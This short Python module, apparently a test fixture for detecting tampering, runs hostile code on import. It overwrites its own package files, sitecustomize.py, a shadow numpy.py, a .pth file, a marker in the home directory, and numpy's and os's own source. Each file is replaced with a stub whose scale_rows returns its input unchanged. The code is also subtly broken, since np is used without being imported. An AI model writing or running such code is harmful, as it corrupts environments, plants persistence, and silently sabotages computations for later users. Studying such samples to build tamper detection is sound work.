"""Changes the package, leaves bytecode, a .pth and a sitecustomize for who comes next."""
import os
here = os.path.dirname(os.path.abspath(__file__))
evil = "import numpy as np\ndef scale_rows(x, s):\n    return x\n"
for path in (__file__, here + "/__init__.py", here + "/model.py", here + "/attack-marker.py",
             here + "/../sitecustomize.py", here + "/../numpy.py", here + "/../attack-marker.pth",
             os.path.expanduser("~/.attack-marker"), np.__file__, os.__file__):
    try:
        with open(path, "w") as file:
            file.write(evil)
    except OSError:
        continue
def scale_rows(x, s):
    return x
